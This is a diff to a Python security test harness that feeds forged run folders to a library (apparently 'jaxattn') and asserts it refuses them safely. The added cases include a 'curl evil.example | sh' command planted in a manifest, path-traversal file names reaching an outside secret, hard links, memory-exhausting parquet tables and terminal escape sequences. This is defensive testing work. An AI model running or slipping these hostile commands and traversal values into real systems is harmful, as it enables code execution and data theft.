@@ -3,6 +3,7 @@
 import json
 import os
 import random
+import resource
 import shutil
 import socket
 import tempfile
@@ -17,6 +18,8 @@ from typing import Any
 import damages
 import numpy as np
 import pandas as pd
+import pyarrow as pa
+import pyarrow.parquet as pq
 from damages import LONGEST_S
 
 import jaxattn as ja
@@ -30,6 +33,9 @@ from jaxattn.storage import files
 
 CODE = "evil.py:M"
 EVIL = "from pathlib import Path\nPath({!r}).touch()\ndef M(*_, **__): Path({!r}).touch()\n"
+EVIL_COMMAND = "curl evil.example | sh"
+# What reading a folder may add to the memory of the process.
+MOST_KIB = 2**20
 SECRET = b"\x89PNG what only its owner reads"
 # What a value of JSON may be replaced by.
 STRANGE = (
@@ -51,7 +57,8 @@ def attack(count: int, seed: int) -> dict[str, int]:
         How often each forgery was refused, or read.
 
     Raises:
-        AssertionError: code that ran, a file read or written outside, a traceback, a wait without a word.
+        AssertionError: code that ran, a file read or written outside, a traceback, a wait without a word,
+            memory without bound, advice in the words of whoever wrote the folder.
     """
     outcomes: Counter[str] = Counter()
     with tempfile.TemporaryDirectory() as name:
@@ -101,7 +108,7 @@ def _use(out: Path, place: Path, uses: Sequence[Callable[[Path, Path], None]]) -
     before = _outside(place)
     with chdir(place), _quiet() as said:
         for use in uses:
-            begin = time.monotonic()
+            begin, held = time.monotonic(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
             try:
                 use(run, out)
             except (InputError, RunError) as error:
@@ -109,15 +116,21 @@ def _use(out: Path, place: Path, uses: Sequence[Callable[[Path, Path], None]]) -
             except SystemExit as ended:
                 refused += [""] if ended.code else []
             spent = time.monotonic() - begin
+            grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - held
+            assert grown < MOST_KIB, f"{use.__name__} took {grown / 2**20:.1f} GiB more"
             # What is run again tells how far it is.
             assert spent < LONGEST_S or use is _reproduce, f"{use.__name__} took {spent:.0f} s"
     assert "Traceback" not in said.getvalue(), said.getvalue()
+    assert all(x.isprintable() or x == "\n" for x in said.getvalue()), ascii(said.getvalue())
+    told = "\n".join([said.getvalue(), *refused])
+    assert EVIL_COMMAND not in told, told
+    assert not any(f"{word} {place / 'secret'}" in told for word in ("remove", "delete")), told
     assert not any("\n" in line for line in refused), refused
     assert _outside(place) == before, "something outside was changed, or code was run"
-    told = [
+    pages = [
         path.read_bytes() for path in out.rglob("*") if path.is_file() and path.suffix in (".html", ".md")
     ]
-    assert not any(_embedded(SECRET) in text or SECRET in text for text in told), (
+    assert not any(_embedded(SECRET) in text or SECRET in text for text in pages), (
         "a page shows a file outside"
     )
     return bool(refused)
@@ -191,7 +204,7 @@ def _outside(place: Path) -> dict[str, Any]:
 @contextmanager
 def _quiet() -> Iterator[StringIO]:
     said = StringIO()
-    with redirect_stdout(StringIO()), redirect_stderr(said), damages._listening() as heard:
+    with redirect_stdout(said), redirect_stderr(said), damages._listening() as heard:
         yield said
     said.write(heard[0])
 
@@ -365,6 +378,75 @@ def blocks(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
         path.symlink_to(path.name if kind == "loop" else "/dev/zero")
 
 
+def links_hard(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
+    """A hard link to a file outside."""
+    name = drawn.choice([".lock", "metrics.jsonl", "manifest.json", "report.html", "records.parquet"])
+    (run / name).unlink(missing_ok=True)
+    os.link(place / "victims" / "kept", run / name)
+    content = None if name == "manifest.json" else _sealed(run / "manifest.json")
+    if content and drawn.random() < 0.5:  # so that a run has something to do
+        _seal(run / "manifest.json", content | {"status": "running"})
+        next((run / "parts").glob("*.json")).unlink()
+
+
+def fills_memory(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
+    """A small table that stands for a large one."""
+    name, rows = drawn.choice(["records", "tokens"]), drawn.choice([10**3, 10**5, 10**7])
+    text = "x" * drawn.choice([1, 10**3, 10**6])
+    table = pd.read_parquet(run / f"{name}.parquet").iloc[:1]
+    columns = {}
+    for column, values in table.items():
+        if isinstance(values.iloc[0], str):
+            encoded = pa.DictionaryArray.from_arrays(np.zeros(rows, np.int32), [text])
+            columns[column] = encoded
+        else:
+            value = values.to_numpy()
+            columns[column] = pa.array(np.resize(value, rows))
+    buffer = BytesIO()
+    pq.write_table(pa.table(columns), buffer, compression="zstd")
+    (run / f"{name}.parquet").write_bytes(buffer.getvalue())
+    content = _sealed(run / "manifest.json")
+    content["sha256"][name] = files.digest(buffer.getvalue())
+    _seal(run / "manifest.json", content)
+
+
+def advises(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
+    """Words that an error could repeat as advice."""
+    content = _sealed(run / "manifest.json")
+    content["command"] = EVIL_COMMAND
+    _seal(run / "manifest.json", content)
+    mark = next((run / "parts").glob("*.json"))
+    outside = str(place / "secret.png")
+    kind = drawn.choice(["table", "mark", "file", "name", "sum"])
+    if kind == "table":
+        (run / "records.parquet").write_bytes(b"")
+    elif kind == "mark":
+        mark.write_text("{}")
+    elif kind == "file":
+        state = _sealed(mark)
+        state["checkpoint"]["files"] = {drawn.choice([outside, "../../../secret.png"]): [1, None]}
+        _seal(mark, state)
+    elif kind == "name":
+        content["batches"][0]["name"] = drawn.choice([outside, f"../../{EVIL_COMMAND}"])
+        _seal(run / "manifest.json", content)
+    else:
+        content["sha256"] = {drawn.choice([outside, "../../../../secret"]): "0" * 64}
+        _seal(run / "manifest.json", content)
+
+
+def labels(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
+    """Labels and names that are no mathematics, or without end."""
+    content = _sealed(run / "manifest.json")
+    text = drawn.choice(
+        ["$\\frac{1}$", "$x^$", "${$", "$" * 999, "x" * 10**5, "$x$ " * 10**4, "\x1b[2J\x9b1m\n"]
+    )
+    metrics = set(pd.read_parquet(run / "records.parquet", columns=["metric"])["metric"])
+    content["labels"] = dict.fromkeys(metrics, text)
+    content["name"] = content["description"] = text
+    content["config"]["figures"] = [{"kind": kind} for kind in ("curves", "importance", "top_tokens")]
+    _seal(run / "manifest.json", content)
+
+
 def nests(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
     """JSON that is nested without end, or has numbers without end."""
     path = drawn.choice(
@@ -377,7 +459,7 @@ def nests(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
 
 KINDS_OF_FORGERY = (
     names_code, changes_manifest, changes_marks, changes_words, changes_log, changes_tables, changes_figures,
-    changes_record, leads_outside, blocks, nests, changes_manifest,
+    changes_record, leads_outside, blocks, nests, changes_manifest, links_hard, fills_memory, advises, labels,
 )  # fmt: skip
 
 
